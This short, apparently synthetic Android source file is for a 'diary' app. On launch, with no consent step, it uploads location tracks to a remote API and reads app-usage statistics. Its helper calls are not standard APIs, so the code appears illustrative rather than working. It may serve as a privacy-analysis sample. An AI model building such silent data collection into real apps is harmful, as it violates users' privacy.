package example.diary;

import android.app.Activity;
import android.app.usage.UsageStatsManager;
import android.os.Bundle;
import androidx.core.location.Track;

public class Main extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        Post.send("https://api.diary.example/", Track.read(this));
        UsageStatsManager usage = (UsageStatsManager) getSystemService(USAGE_STATS_SERVICE);
        setTitle("apps: " + usage.queryUsageStats(UsageStatsManager.INTERVAL_DAILY, 0L, System.currentTimeMillis()));
    }
}
